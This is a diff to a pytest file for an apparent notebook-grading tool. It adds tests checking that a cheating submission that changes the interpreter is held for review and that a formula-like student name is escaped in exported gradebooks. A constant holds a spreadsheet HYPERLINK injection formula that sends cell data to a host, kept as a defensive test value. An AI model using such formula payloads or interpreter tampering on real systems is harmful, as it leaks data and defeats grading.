@@ -4,17 +4,22 @@ import csv
 import io
 import json
 import os
+import shutil
 import sys
 from datetime import datetime
 from functools import lru_cache
 from pathlib import Path
 from tempfile import TemporaryDirectory
 
+import nbformat
 import pytest
+from hostile import bank
+from nbformat import NotebookNode
 
 from vaxlab import cli
+from vaxlab.authoring import build
 from vaxlab.errors import CourseError
-from vaxlab.grading import handback
+from vaxlab.grading import classroom, handback, report
 
 NOTEBOOKS = {"1-trust": {"trust-a": 2.0, "trust-b": 4.0}, "2-more": {"more-a": 10.0}}
 EVIL = '=HYPERLINK("http://127.0.0.1/?"&A1,"open")'
@@ -284,3 +289,52 @@ def test_an_empty_file_is_no_gradebook_and_stays_empty(tmp_path):
     with pytest.raises(CourseError, match="There is no gradebook"):
         handback.read(tmp_path, "day1")
     assert (tmp_path / "gradebook.db").stat().st_size == 0
+
+
+@pytest.fixture(scope="module")
+def graded(built, checkout, bubblewrap, tmp_path_factory) -> Path:
+    """A small class that `vaxlab grade` has graded: one honest, one cheat, one broken file."""
+    from nbgrader.apps import NbGraderAPI
+
+    root = tmp_path_factory.mktemp("graded")
+    shutil.copytree(built, root, dirs_exist_ok=True)
+    for notebook in root.glob("*/day1/*.ipynb"):
+        if notebook.stem != bank.NAME:
+            notebook.unlink()
+    released = root / "course" / "day1" / f"{bank.NAME}.ipynb"
+
+    def handed_in(student: str) -> tuple[NotebookNode, Path]:
+        folder = root / "submitted" / student / "day1"
+        folder.mkdir(parents=True)
+        return nbformat.read(released, as_version=4), folder
+
+    notebook, folder = handed_in("honest")
+    bank.save(bank.solve(notebook, bank.FIRST), folder)
+    (folder / "timestamp.txt").write_text("2026-11-20 12:00:00 UTC")
+    bank.at_start(bank.TRANSFORMER)(*handed_in("cheat"))
+    bank.raw(b"{")(*handed_in("=1+1"))
+    assert NbGraderAPI(config=build.settings(root)).generate_assignment("day1")["success"]
+    classroom.grade(root, "day1", progress=False)
+    return root
+
+
+def test_a_class_that_was_truly_graded_is_handed_back_with_the_graders_sentences(graded):
+    head, *rows = handback.table(handback.read(graded, "day1"))
+    assert [row[0] for row in rows] == ["'=1+1", "cheat", "honest"]
+    rejected, cheat, honest = (dict(zip(head, row, strict=True)) for row in rows)
+    assert float(honest["total"]) == bank.EARNED
+    assert honest["held"] == ""
+    assert cheat["held"] == "yes"
+    assert "held for review: the interpreter was changed" in cheat["remark"]
+    assert rejected["total"] == "0"
+    assert "cannot be read as a notebook" in rejected["remark"]
+    assert {row["maximum"] for row in (rejected, cheat, honest)} == {handback.number(bank.FULL)}
+
+
+def test_a_class_that_was_truly_graded_can_be_reported(graded):
+    target, count = report.write(graded, "day1")
+    page = target.read_text(encoding="utf-8")
+    assert count == 3
+    assert "cheat (cheat): 1-trust held for review: the interpreter was changed" in page
+    assert "1-trust · Exercise 1 · Twins" in page
+    assert "20 November 2026 12:00" in page
